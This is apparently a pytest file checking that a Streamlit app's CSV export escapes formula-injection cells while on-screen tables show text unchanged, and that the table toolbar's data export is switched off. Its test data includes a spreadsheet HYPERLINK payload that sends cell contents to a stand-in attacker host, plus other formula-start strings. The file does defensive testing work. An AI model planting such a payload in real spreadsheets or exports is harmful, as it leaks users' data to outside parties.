import tomllib

import pandas as pd

from indicators.services.exporting import escape_cell, on_screen, safe_frame, to_csv
from tests.conftest import REPO

HOSTILE_CELLS = ['=HYPERLINK("https://evil.example/?d="&A1,"x")', "+1,46", "-0,25", "@SUM(1)", "Hà Nội"]


def test_formula_starts_are_escaped_and_other_text_is_not():
    assert [escape_cell(v) for v in ["=SUM(A1)", "+1", "-2", "@x", "\tx", "Hà Nội", ""]] == \
        ["'=SUM(A1)", "'+1", "'-2", "'@x", "'\tx", "Hà Nội", ""]


def test_numbers_stay_numbers_even_when_negative():
    text = to_csv(pd.DataFrame({"value": [-10.0, 5.5], "label": ["-10 lớp", "ok"]}))
    assert text.splitlines() == ["value,label", "-10.0,'-10 lớp", "5.5,ok"]


def test_a_byte_order_mark_is_added_on_request():
    assert to_csv(pd.DataFrame({"a": [1]}), bom=True).startswith("\ufeffa")


def test_a_table_on_screen_shows_its_text_exactly_and_a_file_escapes_it():
    frame = pd.DataFrame({"text": HOSTILE_CELLS, "n": [1, 2, 3, 4, 5]})
    assert on_screen(frame).text.tolist() == HOSTILE_CELLS                      # no apostrophe on the page
    assert on_screen(frame).n.tolist() == [1, 2, 3, 4, 5]
    assert safe_frame(frame).text.tolist()[:4] == ["'" + t for t in HOSTILE_CELLS[:4]]
    assert safe_frame(frame).text.tolist()[4] == "Hà Nội"
    lines = to_csv(frame).splitlines()[1:]
    assert [line.split(",")[0] for line in lines[1:4]] == ['"\'+1', '"\'-0', "'@SUM(1)"]
    assert lines[0].startswith("\"'=HYPERLINK(")


def test_a_cell_already_starting_with_an_apostrophe_is_shown_as_typed():
    assert on_screen(pd.DataFrame({"a": ["'=1", "'quoted'"]})).a.tolist() == ["'=1", "'quoted'"]


def test_the_tables_own_csv_download_and_copy_are_off():
    """st.dataframe's toolbar download and copy write cells unescaped (in the browser): Streamlit's supported
    switch, ``client.disableDataExport`` (Streamlit 1.67), turns both off for every table."""
    from streamlit import config

    settings = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert settings["client"]["disableDataExport"] is True
    assert "client.disableDataExport" in config._config_options_template  # the installed Streamlit knows it
